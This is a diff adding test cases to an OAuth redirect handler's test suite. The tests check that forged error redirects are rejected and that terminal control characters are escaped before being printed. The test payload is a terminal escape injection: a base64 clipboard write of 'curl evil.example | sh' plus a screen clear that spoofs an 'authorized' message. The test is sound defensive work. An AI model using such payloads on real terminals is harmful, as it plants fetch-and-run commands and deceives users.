@@ -78,6 +78,18 @@ describe('signrelay authorize', () => {
     const forged = await fetch(`${redirectUri}?code=stolen&state=0123`);
     expect(forged.status).toBe(400);
     expect(await forged.text()).toMatch(/does not carry the state of this authorization/);
+    // Any page open in the browser can send an error of its choosing: without this
+    // authorization's state it is a forged redirect, its words not told; with it (the
+    // provider's own), told with its controls escaped (variants review L2).
+    const evil = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\rauthorized';
+    const forgedError = await fetch(`${redirectUri}?error=access_denied&error_description=${encodeURIComponent(evil)}`);
+    expect(forgedError.status).toBe(400);
+    expect(await forgedError.text()).toMatch(/does not carry the state of this authorization/);
+    const withState = await fetch(`${redirectUri}?error=access_denied&state=${url.searchParams.get('state')}&error_description=${encodeURIComponent(evil)}`);
+    expect(withState.status).toBe(400);
+    await waitFor(() => run.stderr.includes('refused the authorization'), { timeoutMs: 10_000, what: 'the provider\'s refusal told' });
+    expect(run.stderr).toContain('Secured Signing refused the authorization: access_denied (\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\rauthorized)');
+    expect(run.stderr).not.toMatch(/[\x07\x1b\r]/);
 
     const location = await signIn(url.href);
     expect(location.startsWith(`${redirectUri}?`)).toBe(true);
